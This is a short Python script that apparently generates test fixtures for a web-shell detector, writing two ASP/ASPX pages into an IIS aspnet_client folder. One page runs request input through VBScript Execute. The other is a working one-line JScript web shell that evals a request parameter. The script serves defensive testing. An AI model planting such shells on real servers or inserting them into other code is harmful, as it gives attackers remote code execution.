"""ws_names.py DIR N: a VBScript page in aspnet_client with N distinct string
variables before a shell that runs the last of them (more names than the
analysis keeps: reported, never silent), beside a real shell."""
import os
import sys

out, n = sys.argv[1], int(sys.argv[2])
d = os.path.join(out, "inetpub", "wwwroot", "aspnet_client")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "names.asp"), "w") as f:
    f.write("<%\n")
    for i in range(n):
        f.write('v%d = "p%d"\n' % (i, i))
    f.write("Execute Request(v%d)\n%%>\n" % (n - 1))
with open(os.path.join(d, "shell.aspx"), "w") as f:
    f.write('<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>\n')
